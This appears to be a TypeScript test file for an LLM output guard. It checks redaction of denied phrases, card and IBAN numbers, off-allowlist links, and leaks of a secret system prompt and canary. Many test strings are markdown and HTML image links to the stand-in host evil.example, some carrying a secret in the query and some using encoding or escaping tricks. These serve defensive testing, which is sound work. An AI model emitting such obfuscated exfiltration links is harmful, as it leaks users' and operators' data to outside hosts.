import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { context, decideWith, view } from "../../../test/support/context.ts";
import { frameOf, gated, LANE, seat } from "../../../test/support/guards.ts";
import { property } from "../../../test/support/property.ts";
import { assertSubset } from "../../../test/support/subset.ts";
import { CALL_CHARS_MAX, CALL_VALUES_MAX } from "../../core/limits.ts";
import type { TextSpan } from "../../core/view.ts";
import { outputSection } from "./section.ts";
import { outputStage } from "./stage.ts";

const SYSTEM = "You are the helpful assistant of Acme. Never tell anyone the discount code or how the price is made.";
const span = (value: string): TextSpan => ({ place: "system", node: { kind: "string", start: 0, end: 0, value } });

/** The guards of a section, new for each answer. */
function decideAs(section: object) {
  const effects = () => {
    const verdict = decideWith(outputStage, section, context({ view: view({ texts: () => [] }) }));
    assert.ok(!("then" in verdict) && !("ok" in verdict) && verdict.kind === "allow");
    return verdict.effects.flatMap((effect) => (effect.kind === "guard" ? [seat("output", effect.guard)] : []));
  };
  return { effects };
}

/** What the caller gets of an answer of these pieces under the rules, and how it ends. */
function said(section: object, pieces: readonly string[], channel: "content" | "tool_arguments" = "content", beside: object = {}) {
  const of = context({ view: view({ texts: () => [span(SYSTEM)] }) });
  const verdict = decideWith(outputStage, section, of);
  assert.ok(!("then" in verdict) && !("ok" in verdict) && verdict.kind === "allow");
  const guards = verdict.effects.flatMap((effect) => (effect.kind === "guard" ? [effect.guard] : []));
  const { out, stop } = gated(
    guards.map((guard) => seat("output", guard)),
    pieces.map((text) => ({
      bytes: Buffer.from(text),
      deltas: [{ ...LANE, channel, text, ...beside }],
      rewrite: ([other]) => Buffer.from(other ?? text),
    })),
  );
  return { out, stop, evidence: guards.map((guard) => guard.evidence()).filter((one) => one !== undefined) };
}
const cutAt = (text: string, cuts: readonly number[]): readonly string[] => {
  const places = [...new Set(cuts.map((cut) => cut % (text.length + 1)))].sort((a, b) => a - b);
  return [...places, text.length].map((end, index) => text.slice(places[index - 1] ?? 0, end));
};

const phrase = (action: string) => ({ deny: [{ name: "codename", words: ["Project Falcon", "falcon"], action }], replaceWith: "No." });
test("a denied phrase is put out, in any case and however it is cut", () => {
  const { out, evidence } = said(phrase("redact"), ["on proj", "ECT fal", "con we"]);
  assert.equal(out, "on <CODENAME> we");
  assertSubset(evidence, [
    { verdict: "allow", evidence: { found: [{ entity: "codename", place: "content", action: "redact", count: 1 }] } },
  ]);
});
const ends = [
  ["cut", { kind: "filtered", text: null }],
  ["replace", { kind: "filtered", text: "No." }],
  ["refuse", { kind: "refuse", denial: { code: "content_blocked" } }],
] as const;
for (const [action, stop] of ends)
  test(`a denied phrase ends the answer: ${action}`, () => {
    const ended = said(phrase(action), ["on proj", "ect falcon we"]);
    assert.equal(ended.out, "on ");
    assertSubset(ended.stop, stop);
    assertSubset(ended.evidence, [{ verdict: "deny", denial: { code: "content_blocked" } }]);
  });

const named = (action: string) => ({
  deny: [
    { name: "ticket", pattern: "tck-[0-9]{4,6}", ignoreCase: true, action },
    { name: "money", entities: ["payment_card", "iban"], action },
  ],
});
const TELLS = "see TCK-12345 paid by 4111 1111 1111 1111 (not 4111 1111 1111 1112) from DE89 3704 0044 0532 0130 00, mail a@b.example";
test("a pattern and entities are put out, however they are cut", () => {
  const out = "see <TICKET> paid by <MONEY> (not 4111 1111 1111 1112) from <MONEY>, mail a@b.example";
  for (let at = 0; at <= TELLS.length; at++)
    assert.equal(said(named("redact"), [TELLS.slice(0, at), TELLS.slice(at)]).out, out, `cut at ${at}`);
  assertSubset(said(named("redact"), [TELLS]).evidence, [
    { evidence: { found: [{ entity: "ticket", count: 1 }] } },
    { evidence: { found: [{ entity: "money", count: 2 }] } },
  ]);
});
test("a pattern or an entity ends the answer before any of it has left", () => {
  assertSubset(said(named("refuse"), [...TELLS]), { out: "see ", stop: { kind: "refuse", denial: { code: "content_blocked" } } });
  const later = said({ deny: named("cut").deny.slice(1) }, [...TELLS]);
  assertSubset(later, { out: "see TCK-12345 paid by ", stop: { kind: "filtered" } });
});
test("an entry of deny names one thing that can be looked for", () => {
  const table: readonly (readonly [entry: object, why: RegExp])[] = [
    [{}, /must have one of/],
    [{ words: ["ab"], pattern: "c" }, /must have one of/],
    [{ pattern: "a+" }, /cannot be looked for: .* -> write it otherwise/],
    [{ entities: ["credit_card_number"] }, /is no entity that is looked for -> docs.quality/],
  ];
  for (const [entry, why] of table)
    assert.match(outputSection.safeParse({ deny: [{ name: "x", ...entry }] }).error?.issues[0]?.message ?? "", why);
});

/** The same of blocks. `ends`: each is known to be whole before the next begins. `kind`: of the second. */
function inBlocks(section: object, texts: readonly string[], ends: boolean, kind: "content" | "reasoning" | "tool_arguments" = "content") {
  const verdict = decideWith(outputStage, section, context({ view: view({ texts: () => [span(SYSTEM)] }) }));
  assert.ok("effects" in verdict && verdict.effects !== undefined);
  const laneOf = (block: number) => ({ ...LANE, block, channel: block === 1 ? kind : ("content" as const) });
  return gated(
    verdict.effects.flatMap((effect) => (effect.kind === "guard" ? [seat("output", effect.guard)] : [])),
    texts.map((text, block) => ({
      bytes: Buffer.from(text),
      deltas: [{ ...laneOf(block), text }],
      rewrite: ([other]) => Buffer.from(other ?? text),
      ...(ends ? { ends: [laneOf(block)] } : {}),
    })),
  );
}
test("blocks that callers put together are judged together: the rest of what begins in one does not leave with the next", () => {
  const systemPrompt = { words: 8, canaries: ["zx81-qmark"] };
  const table: readonly (readonly [section: object, texts: readonly string[], out: string])[] = [
    [phrase("refuse"), ["on Project ", "Fal", "con now"], "on Project Fal"],
    [phrase("redact"), ["on fal", "con now"], "on fal<CODENAME> now"],
    [named("refuse"), ["see TCK-", "12345 now"], "see TCK-"],
    [named("cut"), ["by 4111 1111 ", "1111 1111 now"], "by 4111 1111 "],
    [urls, ["see https://docs.acme.com", ".evil.example/x now"], "see https://docs.acme.com<URL> now"],
    [{ systemPrompt }, ["mark zx81", "-qmark"], "mark zx81"],
    [{ systemPrompt }, ["Never tell anyone the ", "discount code or how"], "Never tell anyone the "],
  ];
  for (const [section, texts, out] of table)
    for (const ends of [true, false]) assert.equal(inBlocks(section, texts, ends).out, out, texts.join("|"));
});
property(
  "a denied phrase is never said, whichever blocks it is in",
  fc.tuple(fc.array(fc.nat(), { maxLength: 6 }), fc.boolean()),
  ([cuts, ends]) => {
    const texts = cutAt("on Project Falcon and falcon now", cuts).filter((text) => text !== "");
    const { out, stop } = inBlocks(phrase("refuse"), texts, ends);
    assert.equal(stop?.kind, "refuse");
    assert.doesNotMatch(out, /falcon/i);
  },
);
test("blocks of another kind stand between: what is before and behind them is no one text", () => {
  for (const kind of ["reasoning", "tool_arguments"] as const) {
    const { out, stop } = inBlocks(phrase("refuse"), ["on fal", "{}", "con now"], true, kind);
    assert.deepEqual([out, stop], ["on fal{}con now", undefined]);
  }
  const found = inBlocks(phrase("redact"), ["on falcon", " and falcon"], true);
  assert.equal(found.out, "on <CODENAME> and <CODENAME>");
});

test("an address within a link counts where the policy says so, however it is escaped", () => {
  const rule = { urls: { allow: ["docs.acme.com", "*.cdn.acme.com"], inner: "check" } };
  const passed = [
    "https://docs.acme.com/out?to=https://img.cdn.acme.com/x",
    "https://docs.acme.com/a/b?q=1&next=/home#https",
    "https://docs.acme.com/a//b",
    "https://docs.acme.com/?ratio=3://2&time=http",
  ];
  for (const link of passed) assert.equal(said(rule, [`see ${link} now`]).out, `see ${link} now`);
  for (const inner of [
    "out?to=https://evil.example/?d=1",
    "out?to=https%3A%2F%2Fevil.example",
    "out?to=https%253A%252F%252Fevil.example",
    "out?to=//evil.example",
    "out?to=%2f%2fevil.example",
    "web/2020/https://evil.example/x",
    "https:/evil.example",
    "#https:evil.example",
    "out?to=https://docs.acme.com/out?to=https://evil.example",
    "out?to=https://docs.acme.com@evil.example",
    "out?to=\\\\evil.example",
  ]) {
    assert.equal(said(rule, [`see https://docs.acme.com/${inner} now`]).out, "see <URL> now", inner);
    assert.equal(said({ urls: { allow: ["docs.acme.com"] } }, [`see https://docs.acme.com/${inner} now`]).out.includes("<URL>"), false);
  }
});

const urls = { urls: { allow: ["docs.acme.com", "*.cdn.acme.com"] } };
const links: readonly (readonly [string, string])[] = [
  ["see https://docs.acme.com/a?b=c.", "see https://docs.acme.com/a?b=c."],
  ["see https://x.cdn.acme.com/a", "see https://x.cdn.acme.com/a"],
  ["![x](https://evil.example/log?q=secret)", "![x](<URL>)"],
  ["![x](//evil.example/log?q=secret)", "![x](<URL>)"],
  ["https://docs.acme.com.evil.example/", "<URL>"],
  ["https://docs.acme.com@evil.example/x", "<URL>"],
  ["www.evil.example and 1/2 // comment", "<URL> and 1/2 // comment"],
  // As browsers and Markdown read addresses.
  ["![x](http:/evil.example/log?q=a=b)", "![x](<URL>)"],
  ["![x](https:evil.example/log)", "![x](<URL>)"],
  ['<img src="\\\\evil.example\\log">', '<img src="<URL>">'],
  ["<img src=/\\evil.example/log>", "<img src=<URL>>"],
  ["[x](https&colon;//evil.example/log)", "[x](<URL>)"],
  ["[x](&sol;&#x2F;evil.example)", "[x](<URL>)"],
  ["<a href=http:\\\\docs.acme.com\\a>", "<a href=http:\\\\docs.acme.com\\a>"],
  // A backslash before a sign is that sign in Markdown.
  ["[x](https\\://evil.example/log)", "[x](<URL>)"],
  ["[x](https://docs.acme.com\\@evil.example/log)", "[x](<URL>)"],
  ["[x](https://docs.acme.com\\.evil.example/)", "[x](<URL>)"],
  ["[x](https://docs\\.acme\\.com/a\\_b)", "[x](<URL>)"],
  ['{"u":"https:\\u002f\\u002Fevil.example/log"} and prose', '{"u":"<URL>"} and prose'],
  // Browsers take tabs and line ends out of the address of an attribute.
  ['<img src="https:/\n/evil.example/log?q=1">', '<img src="<URL>">'],
  ['<img src="/\n/evil.example/log">', '<img src="<URL>">'],
  ["<img src='https://docs.acme.com\n.evil.example/log'>", "<img src='<URL>'>"],
  ['<img src= "\n ht\ttps://evil.example/log">', '<img src= "<URL>">'],
  ['<img src="https://docs.acme.com/a\n.png" alt="a\nb">', '<img src="https://docs.acme.com/a\n.png" alt="a\nb">'],
  ['let x="ht\nand https://docs.acme.com/\n.evil is no host"', 'let x="ht\nand https://docs.acme.com/\n.evil is no host"'],
  ["http: see below, //TODO, n //2 and //x", "http: see below, //TODO, n //2 and //x"],
];
for (const [text, out] of links)
  test(`links: ${text}`, () => {
    assert.equal(said(urls, [text]).out, out);
    for (let at = 1; at < text.length; at++) assert.equal(said(urls, [text.slice(0, at), text.slice(at)]).out, out, `cut at ${at}`);
  });
test("links in arguments are the tool's business", () => {
  assert.equal(said(urls, ['{"u":"https://evil.example/"}'], "tool_arguments").out, '{"u":"https://evil.example/"}');
});

const prompt = { systemPrompt: { words: 6, canaries: ["CANARY-77"] } };
test("a leak of the system prompt ends the answer before any of it has left", () => {
  for (const pieces of [
    ["Sure: never tell ANYONE the discount", " code or how"],
    [..."Sure: never tell ANYONE the discount code or how"],
  ]) {
    const { out, stop } = said(prompt, pieces);
    assert.equal(out, "Sure: ");
    assert.equal(stop?.kind, "refuse");
  }
  assert.equal(said(prompt, ["the discount code is not how the price is set"]).stop, undefined);
  assert.equal(said(prompt, ["it is canary", "-77!"]).out, "it is ");
});

test("of a link that is put out nothing leaves where the answer ends within it", () => {
  const text = "falfalconhttps://evil.example/x ";
  for (let at = 0; at <= text.length; at++) {
    const { out, stop } = said({ ...phrase("refuse"), ...urls, ...prompt }, [text.slice(0, at), text.slice(at)]);
    assert.deepEqual([out, stop?.kind], ["<URL>", "refuse"], `cut at ${at}`);
  }
});

const schema = { schema: { type: "object", required: ["a"], properties: { a: { type: "number" } } } };
test("an answer that breaks the schema does not begin; one that keeps it passes to the byte", () => {
  assertSubset(said(schema, ['{"a":', '"x"}']), { out: "", stop: { kind: "refuse" }, evidence: [{ verdict: "deny", reason: "~schema" }] });
  assertSubset(said(schema, ["no json"]), { out: "", stop: { kind: "refuse" } });
  assert.equal(said(schema, ['{ "a":', " 1 }"]).out, '{ "a": 1 }');
  assertSubset(said({ ...schema, onInvalid: "replace", replaceWith: "Sorry." }, ["no json"]), {
    out: "",
    stop: { kind: "filtered", text: "Sorry." },
  });
});
test("blocks that callers put together are held against the schema as one text, cut anywhere; a call between them parts them", () => {
  const { effects } = decideAs(schema);
  const run = (...blocks: readonly (readonly string[])[]) => {
    const frames = blocks.flatMap((pieces, block) =>
      pieces.map((text, at) => frameOf([{ ...LANE, block, text }], at === pieces.length - 1 ? { ends: [{ ...LANE, block }] } : {})),
    );
    const { out, stop } = gated(effects(), frames);
    return [out.replaceAll(/[<>]/g, ""), stop?.kind];
  };
  assert.deepEqual(run(['{"a"'], [":1", "}"]), ['{"a":1}', undefined]);
  assert.deepEqual(run(['{"a":1, "b": "x\\"y\\\\"', "}"]), ['{"a":1, "b": "x\\"y\\\\"}', undefined]);
  assert.deepEqual(run(['{"a":1}'], [" ", "\n"], [" "]), ['{"a":1} \n ', undefined]);
  assert.deepEqual(run(['{"a":1}'], ['{"a":2}']), ["", "refuse"], "each would keep to it");
  assert.deepEqual(run(['{"a"'], [':"x"}']), ["", "refuse"]);
  const call = frameOf([{ ...LANE, block: 1, channel: "tool_arguments", text: "{}" }], {
    calls: [{ choice: 0, block: 1, name: "f", id: "c" }],
  });
  const parted = [frameOf([{ ...LANE, text: '{"a":1}' }], { ends: [LANE] }), call, frameOf([{ ...LANE, block: 2, text: '{"a":2}' }])];
  assert.equal(gated(effects(), parted).stop, undefined);
});

test("a text of more than is checked breaks the schema", () => {
  const listed = (values: number): string => `{"a":1,"b":[${"0,".repeat(values - 4)}0]}`;
  assert.equal(said(schema, [listed(CALL_VALUES_MAX)]).stop, undefined);
  assertSubset(said(schema, [listed(CALL_VALUES_MAX + 1)]), { out: "", stop: { kind: "refuse" } });
  const sized = (chars: number): string => `{"a":1,"b":"${"x".repeat(chars - 14)}"}`;
  assert.equal(said(schema, [sized(CALL_CHARS_MAX)]).stop, undefined);
  assertSubset(said(schema, [sized(CALL_CHARS_MAX + 1)]), { out: "", stop: { kind: "refuse" } });
});
test("a text that is too long ends as one that met its length", () => {
  assertSubset(said({ maxChars: 5 }, ["abc", "defg"]), { out: "abcde", stop: { kind: "length" } });
  assert.equal(said({ maxChars: 5 }, ["abc", "de"]).stop, undefined);
});

test("the length is of a choice, whatever its blocks, and never ends between the halves of a sign", () => {
  const rule = () => {
    const verdict = decideWith(outputStage, { maxChars: 10 }, context({ view: view() }));
    assert.ok("effects" in verdict);
    return (verdict.effects ?? []).flatMap((effect) => (effect.kind === "guard" ? [seat("output", effect.guard)] : []));
  };
  const block = (text: string, at: number, choice = 0) => frameOf([{ ...LANE, block: at, choice, text }]);
  assertSubset(gated(rule(), [block("123456789", 0), block("abcdef", 1), block("x", 2)]), {
    out: "<123456789><a>",
    stop: { kind: "length" },
  });
  assert.equal(gated(rule(), [block("123456789", 0), block("abcdef", 0, 1)]).stop, undefined);
  const text = "123456789\u{1f600}x";
  for (let at = 0; at <= text.length; at++)
    assertSubset(
      said(
        { maxChars: 10 },
        [text.slice(0, at), text.slice(at)].filter((piece) => piece !== ""),
      ),
      { out: "123456789", stop: { kind: "length" } },
      `cut at ${at}`,
    );
  assert.equal(said({ maxChars: 10 }, ["12345678\u{1f600}"]).stop, undefined);
});

test("what stands beside the text (a citation, a provider's note, an error) needs no schema and has no length; other rules count what they find", () => {
  const beside = { repeats: true };
  const { out, stop, evidence } = said({ ...schema, maxChars: 5, ...phrase("redact") }, ["on project falcon"], "content", beside);
  assert.deepEqual([out, stop], ["on <CODENAME>", undefined]);
  assertSubset(evidence, [{ verdict: "allow", evidence: { found: [{ entity: "codename", action: "redact", count: 1 }] } }]);
  assertSubset(said(phrase("refuse"), ["on project falcon"], "content", beside).evidence, [{ verdict: "deny" }]);
});

property(
  "I8: what leaves does not depend on how the answer is cut",
  fc.tuple(
    fc.array(
      fc.constantFrom(
        "project ",
        "project",
        "\n",
        " ",
        "\u200b",
        "falcon",
        "fal",
        "https://evil.example/x ",
        "//e.x/ ",
        "http:/e.x ",
        "&sol;",
        "\\",
        '="',
        '"',
        "https://docs.acme.com",
        "\t",
        "/",
        "the discount code or how ",
        "the price is ",
        "canary-7",
        "7",
        "é ",
        "中文",
        "tck-1234",
        "4111 1111 1111 1111",
        "DE89 3704 0044 0532 0130 00 ",
      ),
      { maxLength: 12 },
    ),
    fc.array(fc.nat({ max: 300 }), { maxLength: 20 }),
    fc.boolean(),
  ),
  ([words, cuts, ending]) => {
    const rules = {
      deny: [...phrase(ending ? "refuse" : "redact").deny, ...named(ending ? "cut" : "redact").deny],
      ...urls,
      systemPrompt: { ...prompt.systemPrompt, action: ending ? "cut" : "redact" },
    };
    const text = words.join("");
    const [whole, cut] = [said(rules, [text]), said(rules, cutAt(text, cuts))];
    assert.equal(cut.out, whole.out);
    assert.deepEqual(cut.stop, whole.stop);
  },
  300,
);
